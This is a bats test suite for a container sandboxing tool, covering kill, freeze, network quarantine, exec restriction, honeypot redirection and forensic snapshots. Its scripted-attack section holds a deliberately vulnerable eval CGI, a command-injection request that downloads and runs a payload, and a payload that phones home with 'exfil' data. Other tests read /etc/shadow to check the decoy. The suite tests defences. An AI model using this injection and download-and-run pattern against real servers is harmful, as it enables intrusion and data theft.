#!/usr/bin/env bats
# Remedial actions and forensic snapshots (issue 6) on real containers:
# each action is triggered by hand and must leave the expected state, with
# a positive control before every denial. Ids are prefixed act-.

load ../lib/common

PY=/usr/bin/python3

setup() {
  common_setup
  LISTENER=
}

teardown() {
  [ -n "$LISTENER" ] && kill "$LISTENER" 2>/dev/null
  ip link del act-v0 2>/dev/null || true
  [ -n "${OVL:-}" ] && umount "$OVL" 2>/dev/null
  [ -n "${WEB:-}" ] && rm -rf "$WEB"
  common_teardown
}

w() { "$WARD" --root "$WARD_ROOT" "$@"; }

# wait_running ID: sets PID to the init's host pid
wait_running() {
  local i p
  for i in $(seq 200); do
    p=$(w state "$1" 2>/dev/null | jq -r 'select(.status == "running") | .pid') && [ -n "$p" ] && { PID=$p; return 0; }
    sleep 0.05
  done
  return 1
}

# start_sandbox ID SCRIPT [sandbox options]: output in $TEST_TMP/ID.out
start_sandbox() {
  local id=$1 script=$2
  shift 2
  "$WARD" --root "$WARD_ROOT" sandbox --name "$id" "$@" -- sh -c "$script" > "$TEST_TMP/$id.out" 2>&1 &
  BG=$!
  wait_running "$id"
}

# wait_for FILE PATTERN [SECONDS]
wait_for() {
  local i
  for i in $(seq $(( ${3:-10} * 20 ))); do
    grep -q -- "$2" "$1" 2>/dev/null && return 0
    sleep 0.05
  done
  echo "timed out waiting for \"$2\" in $1:" >&2
  tail -20 "$1" >&2
  return 1
}

# lines_after FILE N: the lines after line N, from the second "tick" on, so
# that every line comes from an iteration that began after line N was written
# (and so after the action that was taken then); waits for three ticks.
lines_after() {
  local i
  for i in $(seq 200); do
    [ "$(tail -n +"$(( $2 + 1 ))" "$1" | grep -c '^tick')" -ge 3 ] && break
    sleep 0.05
  done
  tail -n +"$(( $2 + 1 ))" "$1" | awk 'seen { print } /^tick/ { seen = 1 }'
}

cgroup_frozen() {
  local d
  for d in /sys/fs/cgroup/unified/ward/"$1" /sys/fs/cgroup/ward/"$1"; do
    [ -e "$d/cgroup.events" ] && { grep -q '^frozen 1' "$d/cgroup.events"; return; }
  done
  grep -q FROZEN /sys/fs/cgroup/freezer/ward/"$1"/freezer.state
}

cpu_ticks() {  # utime + stime of every process of the container
  local p sum=0
  for p in $(w ps "$1" | tail -n +2); do
    set -- "$1" $(sed 's/.*) //' /proc/"$p"/stat 2>/dev/null)
    [ $# -gt 14 ] && sum=$(( sum + ${12} + ${13} ))
  done
  echo "$sum"
}

@test "act: kill: every process dead, the cgroup gone, what was killed reported" {
  start_sandbox act-k1 'sleep 300 & sleep 300 & wait'
  for i in $(seq 40); do [ "$(w ps act-k1 | tail -n +2 | wc -l)" -eq 3 ] && break; sleep 0.05; done
  pids=$(w ps act-k1 | tail -n +2)
  [ "$(echo "$pids" | wc -l)" -eq 3 ]
  run w action act-k1 kill
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"killed 3 processes of act-k1 (cgroup)"* ]]
  [[ "$output" == *"/sleep"* ]]
  wait "$BG" || true
  for p in $pids; do ! kill -0 "$p" 2>/dev/null || false; done
  assert_clean act-k1
}

@test "act: quarantine --form freeze: frozen by the cgroup freezer, no CPU used; resume thaws" {
  start_sandbox act-f1 'while :; do :; done & sleep 300 & wait'
  sleep 0.3
  run w action act-f1 quarantine --form freeze
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"froze the cgroup"* ]]
  [[ "$output" == *"processes frozen: 3"* ]]
  cgroup_frozen act-f1
  w state act-f1 | jq -e '.status == "paused"'
  w action act-f1 status | jq -e '.action == "quarantine" and .form == "freeze" and .layers[0].frozen_now == true'
  t1=$(cpu_ticks act-f1); sleep 0.6; t2=$(cpu_ticks act-f1)
  echo "frozen: $t1 -> $t2"
  [ "$t1" -eq "$t2" ]
  # a second quarantine is a no-op that says so
  run w action act-f1 quarantine
  [ "$status" -eq 0 ]
  [[ "$output" == *"already in effect"* ]]
  run w action act-f1 resume
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"undid: froze the cgroup"* ]]
  ! cgroup_frozen act-f1 || false
  w state act-f1 | jq -e '.status == "running"'
  t1=$(cpu_ticks act-f1); sleep 0.6; t2=$(cpu_ticks act-f1)
  echo "thawed: $t1 -> $t2"
  [ "$t2" -gt "$t1" ]
  w action act-f1 status | jq -e '.action == "none"'
  w action act-f1 kill
  wait "$BG" || true
}

@test "act: quarantine --form nonet: connects out denied for dynamic and static programs, restored by resume" {
  # a veth pair between the host and the sandbox's network namespace, a
  # listener on the host side; the sandbox tries it with python (probes
  # see it) and with static busybox nc (only the namespace rule can stop it)
  start_sandbox act-n1 "i=0; while [ \$i -lt 400 ]; do
      $PY -c 'import socket; socket.create_connection((\"10.213.7.1\", 18087), timeout=1); print(\"py-ok\")' 2>/dev/null || echo py-fail
      /bin/busybox nc -w 1 10.213.7.1 18087 </dev/null >/dev/null 2>&1 && echo nc-ok || echo nc-fail
      echo tick; i=\$((i+1)); sleep 0.1; done"
  ip link add act-v0 type veth peer name act-v1 netns "$PID"
  ip addr add 10.213.7.1/30 dev act-v0
  ip link set act-v0 up
  nsenter -t "$PID" -n ip addr add 10.213.7.2/30 dev act-v1
  nsenter -t "$PID" -n ip link set act-v1 up
  $PY -c 'import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.213.7.1", 18087)); s.listen(64)
while True:
    c, _ = s.accept(); c.close()' &
  LISTENER=$!
  # positive control: both reach the host
  wait_for "$TEST_TMP/act-n1.out" py-ok
  wait_for "$TEST_TMP/act-n1.out" nc-ok
  run w action act-n1 quarantine --form nonet
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"cut the network namespace (prohibit rule)"* ]]
  [[ "$output" == *"set the control page mode to quarantine"* ]]
  n=$(wc -l < "$TEST_TMP/act-n1.out")
  nsenter -t "$PID" -n ip rule | grep -q prohibit
  after=$(lines_after "$TEST_TMP/act-n1.out" "$n")
  echo "after quarantine: $after"
  [[ "$after" == *py-fail* && "$after" == *nc-fail* ]]
  [[ "$after" != *-ok* ]]
  run w action act-n1 resume
  echo "$output"
  [ "$status" -eq 0 ]
  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
  n=$(wc -l < "$TEST_TMP/act-n1.out")
  after=$(lines_after "$TEST_TMP/act-n1.out" "$n")
  echo "after resume: $after"
  [[ "$after" == *py-ok* && "$after" == *nc-ok* ]]
  w action act-n1 kill
  wait "$BG" || true
}

@test "act: quarantine --form nonet: writes outside /tmp denied by the probes, /tmp still writable" {
  make_bundle "$TEST_TMP/b" '["sh","-c","i=0; while [ $i -lt 400 ]; do (echo x > /data.txt) 2>/dev/null && echo w-ok || echo w-fail; (echo x > /tmp/t.txt) 2>/dev/null && echo t-ok || echo t-fail; echo tick; i=$((i+1)); sleep 0.1; done"]'
  rm -rf "$TEST_TMP/b/rootfs"
  sh tests/lib/glibc_rootfs.sh "$TEST_TMP/b/rootfs"
  "$WARD" --root "$WARD_ROOT" run --bundle "$TEST_TMP/b" act-w1 > "$TEST_TMP/act-w1.out" 2>&1 &
  BG=$!
  wait_running act-w1
  wait_for "$TEST_TMP/act-w1.out" w-ok
  run w action act-w1 quarantine --form nonet --loopback yes
  echo "$output"
  [ "$status" -eq 0 ]
  n=$(wc -l < "$TEST_TMP/act-w1.out")
  after=$(lines_after "$TEST_TMP/act-w1.out" "$n")
  echo "after quarantine: $after"
  [[ "$after" == *w-fail* && "$after" == *t-ok* ]]
  [[ "$after" != *w-ok* ]]
  w action act-w1 resume
  n=$(wc -l < "$TEST_TMP/act-w1.out")
  after=$(lines_after "$TEST_TMP/act-w1.out" "$n")
  [[ "$after" == *w-ok* ]]
  w action act-w1 kill
  wait "$BG" || true
}

@test "act: restrict: exec refused through libc and as a raw system call" {
  start_sandbox act-r1 "$PY -u -c '
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for i in range(400):
    pid = os.fork()
    if pid == 0:
        argv = (ctypes.c_char_p * 2)(b\"/bin/true\", None)
        libc.syscall(59, b\"/bin/true\", argv, None)
        os._exit(100 + ctypes.get_errno() % 100)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    print(\"raw-exec-ok\" if code == 0 else \"raw-exec-denied %d\" % code)
    print(\"sys-exec-ok\" if os.system(\"/bin/true\") == 0 else \"sys-exec-denied\")
    print(\"tick\")
    time.sleep(0.1)
'"
  # positive control
  wait_for "$TEST_TMP/act-r1.out" raw-exec-ok
  wait_for "$TEST_TMP/act-r1.out" sys-exec-ok
  run w action act-r1 restrict
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"set the control page mode to restrict"* ]]
  n=$(wc -l < "$TEST_TMP/act-r1.out")
  after=$(lines_after "$TEST_TMP/act-r1.out" "$n")
  echo "after restrict: $after"
  [[ "$after" == *raw-exec-denied* && "$after" == *sys-exec-denied* ]]
  [[ "$after" != *exec-ok* ]]
  w action act-r1 status | jq -e '.action == "restrict" and .layers[0].mode_now == 4'
  run w action act-r1 resume
  [ "$status" -eq 0 ]
  w action act-r1 status | jq -e '.action == "none"'
  w action act-r1 kill
  wait "$BG" || true
}

@test "act: honeypot: decoy /etc/shadow, outbound connect reaches the sink, resume stops it" {
  start_sandbox act-h1 "i=0; while [ \$i -lt 400 ]; do
      echo \"shadow: \$(head -n 1 /etc/shadow)\"
      $PY -c 'import socket; s = socket.create_connection((\"203.0.113.7\", 8080), timeout=1); s.sendall(b\"GET /payload-act HTTP/1.0\\r\\n\\r\\n\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
      echo tick; i=\$((i+1)); sleep 0.1; done"
  # positive control: the sandbox's user cannot read the real file, and
  # has no route out
  wait_for "$TEST_TMP/act-h1.out" connect-fail
  grep -q "^shadow: $" "$TEST_TMP/act-h1.out"
  run w action act-h1 honeypot
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"started the honeypot sink"* ]]
  [[ "$output" == *"sink: 127.0.0.1:"* ]]
  # the decoys are written when honeypot is first entered
  decoy=$(head -n 1 "$(run_dir act-h1)/probe/decoys/shadow")
  [ -n "$decoy" ]
  [ "$(head -n 1 /etc/shadow)" != "$decoy" ]
  n=$(wc -l < "$TEST_TMP/act-h1.out")
  after=$(lines_after "$TEST_TMP/act-h1.out" "$n")
  echo "after honeypot: $after"
  [[ "$after" == *"shadow: $decoy"* && "$after" == *connect-ok* ]]
  [[ "$after" != *"shadow: "$'\n'* ]]
  wait_for "$WARD_ROOT/act-h1/honeypot.log" "GET /payload-act"
  cat "$WARD_ROOT/act-h1/honeypot.log"
  sink=$(w action act-h1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
  kill -0 "$sink"
  [ "$(stat -c %u /proc/"$sink")" -eq 65534 ]  # host root drops to nobody
  run w action act-h1 resume
  [ "$status" -eq 0 ]
  for i in $(seq 50); do [ "$(ps -o stat= -p "$sink" 2>/dev/null | cut -c1)" != "S" ] && break; sleep 0.05; done
  [ "$(ps -o stat= -p "$sink" 2>/dev/null | cut -c1)" != "S" ]
  n=$(wc -l < "$TEST_TMP/act-h1.out")
  after=$(lines_after "$TEST_TMP/act-h1.out" "$n")
  [[ "$after" != *"shadow: $decoy"* && "$after" == *connect-fail* ]]
  w action act-h1 kill
  wait "$BG" || true
}

@test "act: snapshot: archive lists processes, maps, hashes, sockets, events; show validates it" {
  start_sandbox act-s1 'sleep 300 & sleep 300 & wait'
  sleep 0.3
  run w snapshot act-s1 -o "$TEST_TMP/s.tar"
  echo "$output"
  [ "$status" -eq 0 ]
  tar -tf "$TEST_TMP/s.tar" > "$TEST_TMP/list"
  grep -qx manifest.json "$TEST_TMP/list"
  grep -qx container/config.json "$TEST_TMP/list"
  grep -qx "proc/$PID/maps" "$TEST_TMP/list"
  grep -qx "proc/$PID/fds.json" "$TEST_TMP/list"
  grep -q '^net/[0-9]*/tcp$' "$TEST_TMP/list"
  tar -xOf "$TEST_TMP/s.tar" manifest.json > "$TEST_TMP/m.json"
  jq -e '.format == "ward-snapshot" and .id == "act-s1"' "$TEST_TMP/m.json"
  jq -e '[.processes[].comm] | (map(select(. == "sleep")) | length == 2) and (map(select(. == "sh")) | length == 1)' "$TEST_TMP/m.json"
  jq -e --argjson p "$PID" '.processes[] | select(.pid == $p) | .cmdline[0] == "sh" and (.uid | length == 4)' "$TEST_TMP/m.json"
  # the hash of the sleep binary the processes map is the file's
  want=$(sha256sum /usr/bin/sleep | cut -d' ' -f1)
  jq -e --arg h "$want" '[.executables[] | select(.sha256 == $h)] | length == 1' "$TEST_TMP/m.json"
  # every entry in the manifest is in the archive with its size
  [ "$(jq '.entries | length' "$TEST_TMP/m.json")" -eq "$(( $(wc -l < "$TEST_TMP/list") - 1 ))" ]
  if [ -e "$(run_dir act-s1)/flight" ]; then
    jq -e '.events.count > 0' "$TEST_TMP/m.json"
    tar -xOf "$TEST_TMP/s.tar" events.jsonl | head -1 | jq -e '.type'
  else
    jq -e '.events.count == 0 and (.events.note | test("no flight recorder"))' "$TEST_TMP/m.json"
  fi
  run w snapshot show "$TEST_TMP/s.tar"
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"snapshot of act-s1"* ]]
  [[ "$output" == *"$want /usr/bin/sleep"* ]]
  # bounded: a small budget leaves things out and the manifest says what
  run w snapshot act-s1 -o "$TEST_TMP/small.tar" --max-bytes 16k
  [ "$status" -eq 0 ]
  [ "$(stat -c %s "$TEST_TMP/small.tar")" -lt 40000 ]
  w snapshot show --json "$TEST_TMP/small.tar" | jq -e '[.skipped[] | select(.reason | test("size limit"))] | length > 0'
  # CRIU: a checkpoint when criu works here, otherwise the failure and its log
  if command -v criu >/dev/null; then
    run w snapshot act-s1 -o "$TEST_TMP/criu.tar" --criu
    [ "$status" -eq 0 ]
    w snapshot show --json "$TEST_TMP/criu.tar" > "$TEST_TMP/criu.json"
    jq -e '.criu.requested' "$TEST_TMP/criu.json"
    if jq -e '.criu.ok' "$TEST_TMP/criu.json"; then
      tar -tf "$TEST_TMP/criu.tar" | grep -q '^criu/.*\.img$'
    else
      jq -e '.criu.error | test("criu")' "$TEST_TMP/criu.json"
      tar -xOf "$TEST_TMP/criu.tar" criu/dump.log | grep -q Error
    fi
  fi
  # periodic, rotating
  w snapshot act-s1 --every 1 --keep 2 -o "$TEST_TMP/every" > "$TEST_TMP/every.out" &
  ev=$!
  sleep 3.5
  kill "$ev"; wait "$ev" || true
  [ "$(grep -c 'bytes' "$TEST_TMP/every.out")" -ge 3 ]
  [ "$(ls "$TEST_TMP/every" | wc -l)" -eq 2 ]
  for f in "$TEST_TMP"/every/*.tar; do w snapshot show "$f" >/dev/null; done
  w action act-s1 kill
  wait "$BG" || true
}

@test "act: snapshot of an overlay root holds the rootfs diff and the deletions" {
  ensure_rootfs
  make_bundle "$TEST_TMP/o" '["sh","-c","echo planted > /dropper.sh; rm /etc/group; sleep 300"]'
  rm -rf "$TEST_TMP/o/rootfs"
  mkdir -p "$TEST_TMP/o/rootfs" "$TEST_TMP/upper" "$TEST_TMP/work"
  OVL="$TEST_TMP/o/rootfs"
  mount -t overlay overlay -o "lowerdir=$ROOTFS_CACHE,upperdir=$TEST_TMP/upper,workdir=$TEST_TMP/work" "$OVL"
  "$WARD" --root "$WARD_ROOT" run --bundle "$TEST_TMP/o" act-o1 > "$TEST_TMP/act-o1.out" 2>&1 &
  BG=$!
  wait_running act-o1
  for i in $(seq 100); do [ -e "$TEST_TMP/upper/dropper.sh" ] && break; sleep 0.05; done
  sleep 0.2
  run w snapshot act-o1 -o "$TEST_TMP/o.tar"
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(tar -xOf "$TEST_TMP/o.tar" rootfs-diff/dropper.sh)" = planted ]
  tar -xOf "$TEST_TMP/o.tar" manifest.json | jq -e --arg u "$TEST_TMP/upper" \
    '.rootfs_diff.overlay and .rootfs_diff.upperdir == $u and (.rootfs_diff.deleted | index("etc/group")) != null'
  w action act-o1 kill
  wait "$BG" || true
}

@test "act: a failure halfway is rolled back and reported precisely" {
  start_sandbox act-x1 'sleep 300'
  # the control page cannot be written: the network cut made first is undone
  chattr +i "$(run_dir act-x1)/probe/control"
  run w action act-x1 quarantine --form nonet
  chattr -i "$(run_dir act-x1)/probe/control"
  echo "$output"
  [ "$status" -ne 0 ]
  [[ "$output" == *"quarantine: cut the network namespace (prohibit rule), then failed: "*"; rolled back"* ]]
  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
  w action act-x1 status | jq -e '.action == "none"'
  # honeypot: the sink started first is stopped again
  chattr +i "$(run_dir act-x1)/probe/control"
  run w action act-x1 honeypot
  chattr -i "$(run_dir act-x1)/probe/control"
  echo "$output"
  [ "$status" -ne 0 ]
  [[ "$output" == *"honeypot: started the honeypot sink, then failed: "*"; rolled back"* ]]
  sleep 0.2
  [ -z "$(ps -eo stat=,comm= | awk '$2 == "ward-sink" && $1 !~ /^Z/')" ]
  w action act-x1 kill
  wait "$BG" || true
}

@test "act: bad input: unknown and stopped containers, unknown actions and options, hostile archives" {
  run w action act-nosuch kill
  [ "$status" -ne 0 ]
  [[ "$output" == *'"act-nosuch"'* ]]
  run w snapshot act-nosuch
  [ "$status" -ne 0 ]
  [[ "$output" == *'"act-nosuch"'* ]]
  run w action act-nosuch explode
  [ "$status" -eq 2 ]
  [[ "$output" == *'unknown action "explode"'* ]]
  run w action act-nosuch quarantine --form melt
  [ "$status" -eq 2 ]
  [[ "$output" == *"--form"* ]]
  run w action act-nosuch restrict --form nonet
  [ "$status" -eq 2 ]
  run w action act-nosuch quarantine --loopback no
  [ "$status" -eq 2 ]
  run w snapshot act-nosuch --max-bytes lots
  [ "$status" -eq 2 ]
  # a stopped container: created, never started
  make_bundle "$TEST_TMP/c" '["true"]'
  w create --bundle "$TEST_TMP/c" act-c1
  run w action act-c1 kill
  [ "$status" -ne 0 ]
  [[ "$output" == *'"act-c1" is created, not running'* ]]
  w delete --force act-c1
  # no probes: restrict and honeypot have nothing to work with; host network
  # and no probes: nonet has no layer at all
  start_sandbox act-b1 'sleep 300' --no-probe --net host
  run w action act-b1 restrict
  [ "$status" -ne 0 ]
  [[ "$output" == *"runs without probes"* ]]
  run w action act-b1 quarantine --form nonet
  [ "$status" -ne 0 ]
  [[ "$output" == *"nothing can cut its network"* ]]
  run w action act-b1 resume
  [ "$status" -ne 0 ]
  [[ "$output" == *"no action in effect"* ]]
  w action act-b1 kill
  wait "$BG" || true
  # hostile archives
  for f in fuzz/corpus/snapshot/traversal.tar fuzz/corpus/snapshot/absolute.tar fuzz/corpus/snapshot/dup.tar \
           fuzz/corpus/snapshot/mismatch.tar fuzz/corpus/snapshot/junk; do
    run w snapshot show "$f"
    echo "$f: $output"
    [ "$status" -ne 0 ]
    [[ "$output" == *"$f"* ]]
  done
  [ ! -e ../etc/x ]
  [ ! -e /etc/x ]
  run w snapshot show "$TEST_TMP/missing.tar"
  [ "$status" -ne 0 ]
}

# ---- the scripted attack (issue 6, "Tests that really run") ---------------
# A web server with a command injection: busybox httpd serving a CGI shell
# script (run by the host's dynamically linked dash, so the probes are in
# it) that evals its query string. The attacker (the test, in the
# container's network namespace) injects: download a payload from a second
# loopback HTTP server, run it; the payload writes a marker and calls home
# to the host through a veth pair, sending "exfil-<tag>".

attack_setup() {
  local id=$1
  attack_setup_files
  start_sandbox "$id" "/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
  attack_network
}

attack_setup_files() {
  # the sandbox has a /tmp of its own: serve from a host directory it sees
  WEB=$(mktemp -d /var/tmp/ward-act.XXXXXX)
  chmod 755 "$WEB"
  mkdir -p "$WEB/www/cgi-bin" "$WEB/payload"
  cat > "$WEB/www/cgi-bin/ping" <<'CGI'
#!/bin/sh
echo "Content-Type: text/plain"
echo
host=$(echo "$QUERY_STRING" | sed 's/^host=//; s/%20/ /g; s/%3B/;/g')
eval "echo pinging $host" 2>&1
CGI
  cat > "$WEB/payload/p.sh" <<PAYLOAD
#!/bin/sh
echo pwned > /tmp/pwned && echo wrote-marker
$PY -c 'import socket, sys; s = socket.create_connection(("10.213.8.1", 18088), timeout=2); s.sendall(b"exfil-" + sys.argv[1].encode()); print("called-home")' "\$1" 2>&1 | tail -1
PAYLOAD
  chmod 755 "$WEB/www/cgi-bin/ping"
  chmod 644 "$WEB/payload/p.sh"
  chmod -R a+rX "$WEB"
}

attack_network() {
  ip link add act-v0 type veth peer name act-v1 netns "$PID"
  ip addr add 10.213.8.1/30 dev act-v0
  ip link set act-v0 up
  nsenter -t "$PID" -n ip addr add 10.213.8.2/30 dev act-v1
  nsenter -t "$PID" -n ip link set act-v1 up
  : > "$TEST_TMP/home.log"
  $PY -c 'import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.213.8.1", 18088)); s.listen(64)
while True:
    c, _ = s.accept(); c.settimeout(2)
    try:
        d = c.recv(256)
    except OSError:
        d = b""
    open(sys.argv[1], "ab").write(d + b"\n"); c.close()' "$TEST_TMP/home.log" &
  LISTENER=$!
  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
}

# attack TAG: the injected request; prints the server's answer
attack() {
  local q="host=127.0.0.1%3B/bin/busybox%20wget%20-q%20-O%20/tmp/p.sh%20http://127.0.0.1:18081/p.sh%3Bchmod%20755%20/tmp/p.sh%3B/tmp/p.sh%20$1"
  nsenter -t "$PID" -n timeout 10 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?$q" 2>&1 || true
}

@test "act: attack, then kill: the attack ran and called home; the container is dead" {
  attack_setup act-a1
  run attack a1
  echo "$output"
  [[ "$output" == *wrote-marker* && "$output" == *called-home* ]]
  wait_for "$TEST_TMP/home.log" exfil-a1
  run w action act-a1 kill
  [ "$status" -eq 0 ]
  [[ "$output" == *"killed 3 processes"* ]]
  wait "$BG" || true
  assert_clean act-a1
}

@test "act: attack under quarantine: frozen, the server does not answer; nonet, the payload cannot call home" {
  attack_setup act-a2
  run attack a2-before
  [[ "$output" == *called-home* ]]
  w action act-a2 quarantine --form freeze
  run nsenter -t "$PID" -n timeout 3 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=x"
  [ "$status" -ne 0 ]
  w action act-a2 quarantine --form nonet
  run w action act-a2 status
  echo "$output" | jq -e '.form == "nonet"'
  run attack a2-nonet
  echo "$output"
  [[ "$output" == *wrote-marker* ]]
  [[ "$output" != *called-home* ]]
  ! grep -qx exfil-a2-nonet "$TEST_TMP/home.log" || false
  w action act-a2 kill
  wait "$BG" || true
}

@test "act: attack under restrict: the injected commands cannot exec" {
  attack_setup act-a3
  run attack a3-before
  [[ "$output" == *called-home* ]]
  w action act-a3 restrict
  run attack a3
  echo "$output"
  # the CGI shell itself runs (the static server execs it), but nothing it
  # tries to run does: not even the sed that decodes the query
  [[ "$output" == *pinging* ]]
  [[ "$output" != *wrote-marker* && "$output" != *called-home* ]]
  ! grep -qx exfil-a3 "$TEST_TMP/home.log" || false
  w action act-a3 kill
  wait "$BG" || true
}

@test "act: attack under honeypot: the call home reaches the sink, not the host" {
  attack_setup act-a4
  run attack a4-before
  [[ "$output" == *called-home* ]]
  wait_for "$TEST_TMP/home.log" exfil-a4-before
  w action act-a4 honeypot
  run attack a4
  echo "$output"
  [[ "$output" == *called-home* ]]
  wait_for "$WARD_ROOT/act-a4/honeypot.log" exfil-a4
  ! grep -qx exfil-a4 "$TEST_TMP/home.log" || false
  w action act-a4 kill
  wait "$BG" || true
}

@test "act: attack, then snapshot: the server's processes, their hashes and its listening socket" {
  attack_setup act-a5
  run attack a5
  [[ "$output" == *called-home* ]]
  run w snapshot act-a5 -o "$TEST_TMP/a5.tar"
  [ "$status" -eq 0 ]
  tar -xOf "$TEST_TMP/a5.tar" manifest.json > "$TEST_TMP/a5.json"
  jq -e '[.processes[] | select(.cmdline[0] == "/bin/busybox" and .cmdline[1] == "httpd")] | length == 2' "$TEST_TMP/a5.json"
  want=$(sha256sum /bin/busybox | cut -d' ' -f1)
  jq -e --arg h "$want" '[.executables[] | select(.sha256 == $h)] | length == 1' "$TEST_TMP/a5.json"
  # the listening sockets of the server, as its namespace sees them (port 18080 = 0x46A0)
  tar -xOf "$TEST_TMP/a5.tar" --wildcards 'net/*/tcp' | grep -q ':46A0 00000000:0000 0A'
  w action act-a5 kill
  wait "$BG" || true
}

@test "act: rootless: nonet and honeypot from inside the user namespace, snapshot, kill through the pid namespace" {
  rootless_setup
  rootless "$RL_WARD" sandbox --name act-rl1 -- sh -c "i=0; while [ \$i -lt 400 ]; do
      $PY -c 'import socket; s = socket.create_connection((\"203.0.113.9\", 8080), timeout=1); s.sendall(b\"rootless-exfil\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
      echo tick; i=\$((i+1)); sleep 0.1; done" > "$RL_TMP/out" 2>&1 &
  BG=$!
  for i in $(seq 200); do rootless "$RL_WARD" state act-rl1 >/dev/null 2>&1 && break; sleep 0.05; done
  PID=$(rootless "$RL_WARD" state act-rl1 | jq .pid)
  wait_for "$RL_TMP/out" connect-fail
  # no cgroup to freeze: refused, nothing applied
  run rootless "$RL_WARD" action act-rl1 quarantine --form freeze
  echo "$output"
  [ "$status" -ne 0 ]
  [[ "$output" == *"has no cgroup"*"use --form nonet"* ]]
  run rootless "$RL_WARD" action act-rl1 quarantine --form nonet
  echo "$output"
  [ "$status" -eq 0 ]
  nsenter -t "$PID" -n ip rule | grep -q prohibit
  run rootless "$RL_WARD" action act-rl1 honeypot
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"replaced: quarantine"* ]]
  ! nsenter -t "$PID" -n ip rule | grep -q prohibit || false
  wait_for "$RL_ROOT/act-rl1/honeypot.log" rootless-exfil
  sink=$(rootless "$RL_WARD" action act-rl1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
  [ "$(stat -c %u /proc/"$sink")" -eq "$(id -u wardtest)" ]
  grep -q '^CapEff:.*0000000000000000' /proc/"$sink"/status
  run rootless "$RL_WARD" snapshot act-rl1 -o "$RL_TMP/s.tar"
  [ "$status" -eq 0 ]
  rootless "$RL_WARD" snapshot show --json "$RL_TMP/s.tar" | jq -e --argjson p "$PID" '[.processes[] | select(.pid == $p)] | length == 1'
  run rootless "$RL_WARD" action act-rl1 kill
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"(pid namespace init)"* ]]
  wait "$BG" || true
  ! kill -0 "$PID" 2>/dev/null || false
  for i in $(seq 50); do kill -0 "$sink" 2>/dev/null || break; sleep 0.05; done
  ! kill -0 "$sink" 2>/dev/null || [ "$(ps -o stat= -p "$sink" | cut -c1)" = Z ]
}

@test "act: the attack detected by the engine and killed by its policy (learned template, monitor, high -> kill)" {
  attack_setup_files
  local start="/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
  # learn: the server and a benign request
  "$WARD" --root "$WARD_ROOT" sandbox --name act-d0 --mode learn --template "$TEST_TMP/web.json" -- sh -c "$start" \
    > "$TEST_TMP/learn.out" 2>&1 &
  BG=$!
  wait_running act-d0
  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
  sleep 0.5
  w kill act-d0 KILL
  wait "$BG" || true
  [ -s "$TEST_TMP/web.json" ]
  printf 'mode: monitor\ntemplate: %s\nactions:\n  high: kill\n  critical: kill\n' "$TEST_TMP/web.json" > "$TEST_TMP/web.policy.yaml"
  # monitor: the same server, attacked
  "$WARD" --root "$WARD_ROOT" sandbox --name act-d1 --policy "$TEST_TMP/web.policy.yaml" -- sh -c "$start" \
    > "$TEST_TMP/act-d1.out" 2> "$TEST_TMP/act-d1.alerts" &
  BG=$!
  wait_running act-d1
  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
  # the benign request is no alert worth a kill
  nsenter -t "$PID" -n /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=127.0.0.1" | grep -q "pinging 127.0.0.1"
  kill -0 "$PID"
  attack d1 || true
  for i in $(seq 100); do kill -0 "$PID" 2>/dev/null || break; sleep 0.05; done
  cat "$TEST_TMP/act-d1.alerts"
  ! kill -0 "$PID" 2>/dev/null || false
  wait "$BG" || true
  # killed for a step of the attack (the injected wget or its connect to
  # the payload server on 18081, the payload), at high
  grep '"action":"kill"' "$TEST_TMP/act-d1.alerts" | grep '"severity":"high"' | grep -q -E 'wget|p\.sh|"port":18081'
  assert_clean act-d1
}
